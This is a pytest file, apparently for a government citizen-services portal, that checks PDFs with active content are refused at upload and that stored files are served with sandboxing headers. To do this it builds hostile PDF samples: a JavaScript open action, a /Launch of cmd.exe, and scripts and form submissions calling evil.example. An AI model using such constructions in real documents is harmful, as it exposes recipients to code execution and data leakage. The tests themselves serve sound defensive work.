"""Issue 12, finding 14: PDFs with active content are refused at upload, and every stored file is
served with a Content-Disposition, a sandboxing CSP and nosniff, to citizens and officials alike.

The hostile PDFs are built with pypdf the way an attacker would: a JavaScript open action, an
/OpenAction that launches a program, a page's /AA running a script, an embedded executable, an
XFA form, a harmless-looking /GoTo whose /Next opens a URL.
"""

from __future__ import annotations

import io
import secrets
import uuid
from urllib.parse import quote

import httpx
import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject

from tests.helpers import RENEWAL, auth, id_number, jpeg, login, new_draft, renewal_answers, to_l3, upload

CSP = "sandbox; default-src 'none'"


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name("/" + key)] = value
    return action


def _pdf(build=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if build:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action):
    def build(writer: PdfWriter) -> None:
        writer.root_object[_name("/OpenAction")] = action(writer) if callable(action) else action

    return build


def _page_aa(writer: PdfWriter) -> None:
    script = _action("/JavaScript", JS=TextStringObject("app.launchURL('http://evil.example/');"))
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): script})


def _xfa(writer: PdfWriter) -> None:
    writer.root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def _goto_then_uri(writer: PdfWriter) -> DictionaryObject:
    destination = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    return _action("/GoTo", D=destination, Next=_action("/URI", URI=TextStringObject("http://evil.example/")))


HOSTILE = {
    "javascript": (lambda w: w.add_open_action(JavaScript("app.alert('pwned');")), "JavaScript"),
    "launch": (_open_action(_action("/Launch", F=TextStringObject("cmd.exe"))), "Launch"),
    "page_aa": (_page_aa, "AA"),
    "embedded_file": (lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00"), "EmbeddedFile"),
    "xfa": (_xfa, "XFA"),
    "goto_then_uri": (_open_action(_goto_then_uri), "OpenAction"),
    "submit_form": (_open_action(_action("/SubmitForm", F=TextStringObject("http://evil.example/"))), "SubmitForm"),
}


@pytest.fixture(scope="module")
def owner(server, wechat_sim):
    assert server.cli("load-demo").returncode == 0
    return login(server, wechat_sim)[0]


def _stored(server, tokens) -> int:
    return server.database.query(f"SELECT COUNT(*) FROM materials WHERE user_id = {tokens['user']['id']}")[0][0]


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_pdf_with_active_content_is_refused_and_not_stored(server, owner, name):
    build, found = HOSTILE[name]
    before = _stored(server, owner)
    response = upload(server, owner, _pdf(build), name="scan.pdf", kind="scan", mime="application/pdf")
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "pdf_active_content" and found in body["details"]["found"]
    assert "PDF" in body["message"]
    assert _stored(server, owner) == before


def test_an_ordinary_pdf_with_an_initial_view_and_a_link_is_accepted(server, owner):
    """What office software exports: an /OpenAction that opens at a page and a clickable URL."""

    def build(writer: PdfWriter) -> None:
        page = writer.pages[0]
        writer.root_object[_name("/OpenAction")] = ArrayObject([page.indirect_reference, _name("/Fit")])
        link = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(70)]),
                _name("/Border"): ArrayObject([NumberObject(0)] * 3),
                _name("/A"): _action("/URI", URI=TextStringObject("https://www.gov.cn/")),
            }
        )
        page[_name("/Annots")] = ArrayObject([writer._add_object(link)])

    response = upload(server, owner, _pdf(build), name="scan.pdf", kind="scan", mime="application/pdf")
    assert response.status_code == 201, response.text
    assert response.json()["pages"] == 1


def _assert_served_safely(response: httpx.Response, disposition: str, filename: str) -> None:
    assert response.status_code == 200, response.text
    assert response.headers["content-security-policy"] == CSP
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-disposition"] == (
        f"{disposition}; filename=\"{filename}\"; filename*=UTF-8''{quote(filename, safe='')}"
    )


def test_citizens_files_are_served_with_disposition_and_a_sandbox(server, owner):
    photo = upload(server, owner, jpeg(1200, 900)).json()
    _assert_served_safely(httpx.get(photo["file_url"]), "inline", f"material-{photo['id']}.jpg")
    _assert_served_safely(httpx.get(photo["thumbnail_url"]), "inline", f"material-{photo['id']}-thumb.jpg")
    pdf = upload(server, owner, _pdf(), name="scan.pdf", kind="scan", mime="application/pdf").json()
    served = httpx.get(pdf["file_url"])
    _assert_served_safely(served, "attachment", f"material-{pdf['id']}.pdf")
    assert served.headers["content-type"] == "application/pdf"


def test_an_officials_copy_is_served_with_disposition_and_a_sandbox(server, wechat_sim):
    tokens = to_l3(server, wechat_sim, "沙箱甲", id_number())
    material_id = upload(server, tokens, jpeg(1500, 2000, (200, 180, 160)), kind="id_photo").json()["id"]
    with server.client(headers=auth(tokens)) as c:
        draft = new_draft(c, service_code=RENEWAL)
        answers = renewal_answers(material_id)
        answers["applicant"]["phone"] = f"137{secrets.randbelow(10**8):08d}"
        assert c.patch(f"/api/v1/drafts/{draft['id']}", json={"version": 1, "data": answers}).status_code == 200
        submitted = c.post(f"/api/v1/drafts/{draft['id']}/submit", headers={"Idempotency-Key": uuid.uuid4().hex})
        assert submitted.status_code == 201, submitted.text
    case_no = submitted.json()["case_no"]

    username, password = f"sandbox{secrets.token_hex(3)}", secrets.token_urlsafe(12)
    created = server.cli(
        "create-official",
        "--username",
        username,
        "--department",
        "泸州市公安局",
        "--password-stdin",
        input=password + "\n",
    )
    assert created.returncode == 0, created.stderr
    with server.client() as official:
        assert (
            official.post("/console/api/session", json={"username": username, "password": password}).status_code == 200
        )
        copy = official.get(f"/console/api/cases/{case_no}/materials/{material_id}", params={"reason": "审核办件材料"})
    _assert_served_safely(copy, "inline", f"{case_no}-{material_id}.jpg")
    assert copy.headers["cache-control"] == "no-store"


def test_a_pdf_too_large_to_check_is_refused(server, owner):
    """The check walks every object; past MAX_PDF_OBJECTS the file is refused, not half-checked."""

    def build(writer: PdfWriter) -> None:
        # Small arrays, as pypdf itself refuses one array of more than 100,000 elements.
        rows = [writer._add_object(ArrayObject([NumberObject(0)] * 1_000)) for _ in range(210)]
        writer.pages[0][_name("/PieceInfo")] = ArrayObject(rows)

    response = upload(server, owner, _pdf(build), name="scan.pdf", kind="scan", mime="application/pdf")
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "pdf_too_complex"
